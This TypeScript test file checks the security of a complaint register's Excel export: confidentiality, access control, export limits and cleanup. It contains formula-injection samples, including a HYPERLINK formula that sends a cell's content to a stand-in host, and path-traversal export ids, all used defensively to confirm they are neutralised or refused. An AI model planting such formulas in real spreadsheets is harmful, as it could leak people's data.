import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import type { ChannelInput } from '../../contract';
import type { CoreSession } from '../../session';
import { makeOffice, must, phoneComplaint, type Office } from '../../testing';
import { REGISTER_COLUMNS } from '../../../../templates/xlsx/register-workbook';

/**
 * A second reading of the register export as someone trying to see what they should not: a clerk who did not
 * record a confidential case, another user's export, formula-like text in every column a user can type.
 */
const roots: string[] = [];
afterAll(() => {
  for (const r of roots) fs.rmSync(r, { recursive: true, force: true });
});

const HEADERS = REGISTER_COLUMNS.map((c) => c.header);

async function exportOf(o: Office, who: CoreSession, input: ChannelInput<'registerExport/start'> = {}) {
  const started = must(await o.core.call('registerExport/start', input, who));
  await o.core.services.registerExport.settled();
  const file = must(await o.core.call('registerExport/file', { exportId: started.exportId }, who));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(file.bytes) as unknown as ArrayBuffer);
  return { started, file, wb };
}

/** Data rows by register number, each as header → cell. */
function byRegisterNo(wb: ExcelJS.Workbook): Map<string, Record<string, ExcelJS.Cell>> {
  const out = new Map<string, Record<string, ExcelJS.Cell>>();
  for (const ws of wb.worksheets) {
    ws.eachRow((row, n) => {
      if (n <= 3) return;
      out.set(String(row.getCell(1).value), Object.fromEntries(HEADERS.map((h, i) => [h, row.getCell(i + 1)])));
    });
  }
  return out;
}

describe('the export’s 重复件 column and a confidential case', () => {
  it('does not tie a complainant a clerk sees masked to one the clerk sees in full (the case page’s rule)', async () => {
    const o = await makeOffice('2026-03-02 10:00');
    // 张三 complained openly (the clerk recorded it, and sees 张三 on it); later confidentially, to the supervisor,
    // who linked the confidential case as a repeat of the open one.
    const open = must(await o.core.call('cases/register', phoneComplaint({ receivedAt: '2026-01-15 09:00' }), o.as.clerk));
    const secret = must(await o.core.call('cases/register', phoneComplaint({ isConfidential: true, repeatOfId: open.id, receivedAt: '2026-02-10 09:00' }), o.as.supervisor));
    // And the other way: a confidential case first, an open case of the same person later linked to it.
    const secretFirst = must(await o.core.call('cases/register', phoneComplaint({
      isConfidential: true, receivedAt: '2026-02-01 09:00', complainants: [{ name: '欧阳娜娜', phone: '13712345678', idNumber: '', address: '', employer: '' }],
    }), o.as.supervisor));
    const openLater = must(await o.core.call('cases/register', phoneComplaint({
      receivedAt: '2026-02-20 09:00', repeatOfId: secretFirst.id, complainants: [{ name: '欧阳娜娜', phone: '13712345678', idNumber: '', address: '', employer: '' }],
    }), o.as.supervisor));
    // The clerk sees the open cases' complainants in full, the confidential ones masked: no link is shown on either page…
    expect(must(await o.core.call('cases/get', { id: secret.id }, o.as.clerk)).repeatOf).toBeNull();
    expect(must(await o.core.call('cases/get', { id: openLater.id }, o.as.clerk)).repeatOf).toBeNull();
    // …nor in the clerk's export.
    const clerk = byRegisterNo((await exportOf(o, o.as.clerk)).wb);
    expect(clerk.get(secret.registerNo)!['重复件'].value).toBeNull();
    expect(clerk.get(openLater.registerNo)!['重复件'].value).toBeNull();
    // …nor as rows of the clerk's export filtered to 重复件 (the register's filter: no hidden link counts).
    expect([...byRegisterNo((await exportOf(o, o.as.clerk, { repeat: true })).wb).keys()]).toEqual(['没有符合条件的案件。']);
    expect([...byRegisterNo((await exportOf(o, o.as.supervisor, { repeat: true })).wb).keys()].sort()).toEqual([secret.registerNo, openLater.registerNo].sort());
    // Whoever sees both ends alike (the supervisor in full, the auditor masked) gets the link, masked export or not.
    for (const [who, input] of [[o.as.supervisor, {}], [o.as.auditor, {}], [o.as.auditor, { unmasked: true, purpose: '审计抽查' }]] as const) {
      const rows = byRegisterNo((await exportOf(o, who, input)).wb);
      expect(rows.get(secret.registerNo)!['重复件'].value).toBe(open.registerNo);
      expect(rows.get(openLater.registerNo)!['重复件'].value).toBe(secretFirst.registerNo);
    }
  });
});

describe('the export of another user', () => {
  it('is not found by anyone else: progress, cancel and file; ids that look like paths find nothing either', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'export-attack-'));
    roots.push(root);
    const o = await makeOffice('2026-03-02 10:00', { papersRoot: root });
    must(await o.core.call('cases/register', phoneComplaint(), o.as.clerk));
    const started = must(await o.core.call('registerExport/start', {}, o.as.auditor));
    await o.core.services.registerExport.settled();
    for (const who of [o.as.clerk, o.as.supervisor]) {
      for (const channel of ['registerExport/progress', 'registerExport/cancel', 'registerExport/file'] as const) {
        expect(await o.core.call(channel, { exportId: started.exportId }, who)).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
      }
    }
    for (const exportId of ['../exports', `../exports/${started.exportId}`, `${started.exportId}.xlsx`, started.exportId.toUpperCase(), '']) {
      const r = await o.core.call('registerExport/file', { exportId }, o.as.auditor);
      expect(r.ok, exportId).toBe(false);
    }
    // The starter still gets it, once.
    expect(must(await o.core.call('registerExport/file', { exportId: started.exportId }, o.as.auditor)).bytes.length).toBeGreaterThan(1000);
    expect(fs.readdirSync(path.join(root, 'exports'))).toEqual([]);
  });
});

describe('formula-like text in every column a user can type', () => {
  it('is written as plain text cells: no formula in the file, every such cell a string', async () => {
    const o = await makeOffice('2026-03-02 10:00');
    const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
    const dept = (await o.core.db.insertInto('departments').values({ name: FORMULAS[0] }).returning('id').executeTakeFirstOrThrow()).id;
    const staff = (await o.core.db.insertInto('staff').values({ department_id: dept, name: FORMULAS[1] }).returning('id').executeTakeFirstOrThrow()).id;
    let c = must(await o.core.call('cases/register', phoneComplaint({
      subject: FORMULAS[2], complainants: [{ name: FORMULAS[3], phone: '13812345678', idNumber: '', address: '', employer: '' }],
      respondentDepartmentId: dept, respondentStaff: FORMULAS[4],
    }), o.as.clerk));
    c = must(await o.core.call('cases/accept', { id: c.id, version: c.version, note: '' }, o.as.supervisor));
    c = must(await o.core.call('cases/assign', { id: c.id, version: c.version, departmentId: dept, handlerStaffId: staff, severity: 'simple', note: '' }, o.as.supervisor));
    must(await o.core.call('cases/register', phoneComplaint({ subject: FORMULAS[5], respondentStaff: FORMULAS[5] }), o.as.clerk));
    for (const [who, input] of [[o.as.supervisor, { unmasked: true, purpose: '核对' }], [o.as.clerk, {}]] as const) {
      const { wb, file } = await exportOf(o, who, input);
      let formulaLike = 0;
      for (const ws of wb.worksheets) {
        ws.eachRow((row) => row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value)) {
            formulaLike += 1;
            expect(cell.type).toBe(ExcelJS.ValueType.String);
          }
        }));
      }
      // subject ×2, department ×2 (respondent and handler), handler staff, respondent staff ×2, the complainant's name.
      expect(formulaLike).toBeGreaterThanOrEqual(who === o.as.clerk ? 7 : 8);
      // The sheet's XML has no formula element at all (Excel and WPS evaluate only those).
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'export-xml-'));
      roots.push(dir);
      fs.writeFileSync(path.join(dir, 'x.xlsx'), file.bytes);
      const xml = execFileSync('unzip', ['-p', path.join(dir, 'x.xlsx'), 'xl/worksheets/sheet1.xml'], { maxBuffer: 1 << 26 }).toString();
      expect(xml).not.toMatch(/<f[ >]/);
      // Every cell of text is a string cell (t="str" without a formula, as exceljs' streaming writer writes text).
      for (const cell of xml.match(/<c [^>]*>(?:(?!<\/c>).)*<\/c>/g) ?? []) {
        if (/<v>[=+\-@]/.test(cell)) expect(cell).toMatch(/ t="(str|inlineStr|s)"/);
      }
    }
  });
});

describe('many exports at once', () => {
  it('refuses a third running export of one user and a fifth in the office (each is a worker with its own connection and writer); the core keeps answering', async () => {
    const o = await makeOffice('2026-03-02 10:00');
    for (let i = 0; i < 60; i += 1) must(await o.core.call('cases/register', phoneComplaint({ subject: `排队时间过长 ${i}` }), o.as.clerk));
    const clerk2 = { userId: (await o.core.db.insertInto('users').values({ username: 'clerk2', display_name: '孙丽', role: 'clerk', password_hash: 'x', staff_id: null, created_at: '2026-01-01 09:00:00' }).returning('id').executeTakeFirstOrThrow()).id };
    const slow = (await import('./register-export')).createRegisterExport(o.core.services.deps, o.core.services.settings, o.core.services.calendar, { chunk: 1 });
    const actor = async (who: CoreSession) => {
      const u = await o.core.db.selectFrom('users').selectAll().where('id', '=', who.userId).executeTakeFirstOrThrow();
      return { id: u.id, username: u.username, displayName: u.display_name, role: u.role, staffId: u.staff_id } as Parameters<typeof slow.start>[0];
    };
    const input = { sortBy: 'registerNo', sortOrder: 'desc', unmasked: false, purpose: '' } as Parameters<typeof slow.start>[1];
    const clerk = await actor(o.as.clerk);
    const first = await slow.start(clerk, input);
    await slow.start(clerk, input);
    await expect(slow.start(clerk, input)).rejects.toMatchObject({ code: 'CONFLICT', message: expect.stringContaining('正在进行') });
    // Others still may, up to the office's limit.
    await slow.start(await actor(o.as.supervisor), input);
    await slow.start(await actor(o.as.auditor), input);
    await expect(slow.start(await actor(clerk2), input)).rejects.toMatchObject({ code: 'CONFLICT', message: expect.stringContaining('正在进行') });
    // The core answers meanwhile; a cancelled (or finished) export frees its place.
    expect(must(await o.core.call('cases/list', {}, o.as.clerk)).total).toBe(60);
    await slow.cancel(clerk, { exportId: first.exportId });
    expect((await slow.start(clerk, input)).state).toBe('running');
    await slow.settled();
    expect((await slow.start(clerk, input)).state).toBe('running');
    await slow.settled();
  });
});

describe('finished exports nobody fetches', () => {
  it('do not pile up in the data folder: starting one forgets the user’s older unfetched ones but the newest', async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'export-pile-'));
    roots.push(root);
    const o = await makeOffice('2026-03-02 10:00', { papersRoot: root });
    must(await o.core.call('cases/register', phoneComplaint(), o.as.clerk));
    const started: string[] = [];
    for (let i = 0; i < 5; i += 1) {
      started.push(must(await o.core.call('registerExport/start', {}, o.as.clerk)).exportId);
      await o.core.services.registerExport.settled();
    }
    // Another user's unfetched export is left alone.
    const auditors = must(await o.core.call('registerExport/start', {}, o.as.auditor)).exportId;
    await o.core.services.registerExport.settled();
    must(await o.core.call('registerExport/start', {}, o.as.clerk));
    await o.core.services.registerExport.settled();
    expect(fs.readdirSync(path.join(root, 'exports')).length).toBe(3);
    for (const id of started.slice(0, 4)) expect(await o.core.call('registerExport/file', { exportId: id }, o.as.clerk)).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
    must(await o.core.call('registerExport/file', { exportId: started[4] }, o.as.clerk));
    must(await o.core.call('registerExport/file', { exportId: auditors }, o.as.auditor));
  });
});

describe('an unmasked export without the right or the purpose', () => {
  it('is refused: an administrator may not export at all, a clerk not unmasked, an auditor not without a purpose (blank counts as none)', async () => {
    const o = await makeOffice('2026-03-02 10:00');
    must(await o.core.call('cases/register', phoneComplaint(), o.as.clerk));
    expect(await o.core.call('registerExport/start', {}, o.as.admin)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await o.core.call('registerExport/start', { unmasked: true, purpose: '核对' }, o.as.clerk)).toMatchObject({ ok: false, error: { code: 'FORBIDDEN', field: 'unmasked' } });
    for (const purpose of [undefined, '', '   ', '\n\t']) {
      expect(await o.core.call('registerExport/start', { unmasked: true, ...(purpose === undefined ? {} : { purpose }) }, o.as.auditor), JSON.stringify(purpose))
        .toMatchObject({ ok: false, error: { code: 'VALIDATION', field: 'purpose' } });
    }
    const history = await o.core.db.selectFrom('history').select('action').where('entity', '=', 'export').execute();
    expect(history).toEqual([]);
  });
});
